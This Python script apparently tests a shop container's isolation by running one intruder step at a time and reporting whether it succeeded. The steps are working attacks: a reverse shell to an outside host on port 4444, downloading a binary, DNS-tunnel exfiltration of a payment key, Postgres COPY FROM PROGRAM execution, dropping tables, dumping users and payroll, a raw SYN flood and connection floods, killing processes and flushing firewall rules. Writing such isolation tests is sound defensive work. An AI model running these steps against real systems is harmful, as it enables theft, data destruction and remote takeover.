"""What an intruder does from inside of the shop's container, one step a start. Ends with a line `yes: …` or `no: …`: whether it came to something."""
import base64, os, socket, struct, subprocess, sys, threading, time, urllib.request
import psycopg2

step, stock, outside = sys.argv[1:4]


def reaches(host, port, seconds=3):
    try:
        socket.create_connection((host, port), seconds).close()
        return True
    except OSError:
        return False


def sql(statement, **where):
    connection = psycopg2.connect("", **where)
    connection.autocommit = True
    try:
        with connection.cursor() as cursor:
            cursor.execute(statement)
            return cursor.fetchall() if cursor.description else []
    finally:
        connection.close()


def scan():
    # Without 53, where a name server answers for every address: the container's, or the guard.
    found = [port for port in (*range(20, 53), *range(100, 120)) if reaches(stock, port, 1)]
    return found, f"{len(found)} open ports of stock"


def password():
    tables = sql("SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'")
    return tables, f"{len(tables)} tables of {os.environ['PGUSER']}"


def users():
    rows = sql("SELECT * FROM users")
    return rows, f"{len(rows):,} users, with passwords"


def drop():
    sql("DROP TABLE invoices")
    return True, "the table invoices is gone"


def program():
    sql("COPY products (name) FROM PROGRAM 'id -un'")
    return True, f"ran as {sql('SELECT name FROM products ORDER BY id DESC LIMIT 1')[0][0]} at the database"


def sleep():
    slept = []

    def one():
        try:
            sql("SELECT pg_sleep(2)")
            slept.append(1)
        except psycopg2.Error as error:
            failed.append(error)
    failed = []
    threads = [threading.Thread(target=one) for _ in range(30)]
    for thread in threads: thread.start()
    for thread in threads: thread.join()
    if failed and not slept: raise failed[0]
    return len(slept) >= 20, f"{len(slept)} sessions held"


def database():
    rows = sql("SELECT * FROM salaries", dbname="payroll")
    return rows, f"{len(rows)} row of payroll"


def host():
    text = urllib.request.urlopen(f"http://{stock}/", timeout=5).read().decode().strip()
    return text, text


def fetch():
    content = urllib.request.urlopen(f"http://{outside}/tool", timeout=5).read()
    return content.startswith(b"\x7fELF"), f"{len(content):,} bytes of a program"


def shell():
    connection = socket.create_connection((outside, 4444), 5)
    subprocess.run(["/bin/sh"], stdin=connection, stdout=connection, stderr=connection)
    return True, "a shell for whoever is outside"


def tunnel():
    secret = base64.b32encode(b"the shop's key of payments, byte by byte, in names").decode().rstrip("=").lower()
    for i in range(0, len(secret), 20):
        try: socket.getaddrinfo(f"{i}-{secret[i:i + 20]}.tunnel.test", 80)
        except socket.gaierror: pass
    return True, f"{len(secret)} characters sent"


def syn():
    to = socket.gethostbyname(stock) if not stock[0].isdigit() else stock
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    raw.connect((to, 82))
    own = raw.getsockname()[0]
    sent = 0
    for i in range(10_000):
        head = struct.pack("!HHIIBBHHH", 1024 + i, 82, i, 0, 0x50, 2, 64_240, 0, 0)
        pseudo = socket.inet_aton(own) + socket.inet_aton(to) + struct.pack("!BBH", 0, 6, len(head)) + head
        total = sum(struct.unpack(f"!{len(pseudo) // 2}H", pseudo))
        total = (total >> 16) + (total & 0xFFFF)
        head = head[:16] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + head[18:]
        try:
            raw.send(head)
            sent += 1
        except OSError: pass
        if i % 100 == 99: time.sleep(0.01)
    return sent, f"{sent:,} SYN packets sent"


def flood():
    held = []
    for _ in range(500):
        try: held.append(socket.create_connection((stock, 81), 2))
        except OSError: pass
    return len(held) >= 300, f"{len(held)} connections held"


def stop():
    killed = 0
    for process in filter(str.isdigit, os.listdir("/proc")):
        try:
            words = open(f"/proc/{process}/cmdline", "rb").read()
            if b"plimsoll" in words or b"serve-run" in words:
                os.kill(int(process), 9)
                killed += 1
        except OSError: pass
    came = reaches(stock, 90)
    return came, f"{killed} processes killed, stock {'' if came else 'not '}reached"


def rules():
    commands = ("nft flush ruleset", "ip link add eth9 type veth peer name eth8", "ip addr add 192.0.2.99/24 dev lo")
    refused = sum(subprocess.run(["/bin/sh", "-c", f"PATH=/usr/sbin:/usr/bin {command}"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).returncode != 0 for command in commands)
    came = reaches(stock, 91)
    return came, f"{refused} of {len(commands)} fail, stock {'' if came else 'not '}reached"


def dump():
    got = 0
    connection = psycopg2.connect("")
    connection.autocommit = True
    with connection.cursor() as cursor:
        for number in range(1, 2_001):
            try: cursor.execute("SELECT name, mail FROM users WHERE id = %s", (number,))
            except psycopg2.Error as error: return False, f"{got:,} of 2,000 users, then {str(error).splitlines()[0]}"
            got += len(cursor.fetchall())
    return got == 2_000, f"{got:,} users, one statement each"


try:
    came, what = globals()[step]()
except Exception as error:
    came, what = False, str(error).strip().splitlines()[0] if str(error).strip() else type(error).__name__
print(f"{'yes' if came else 'no'}: {what}")
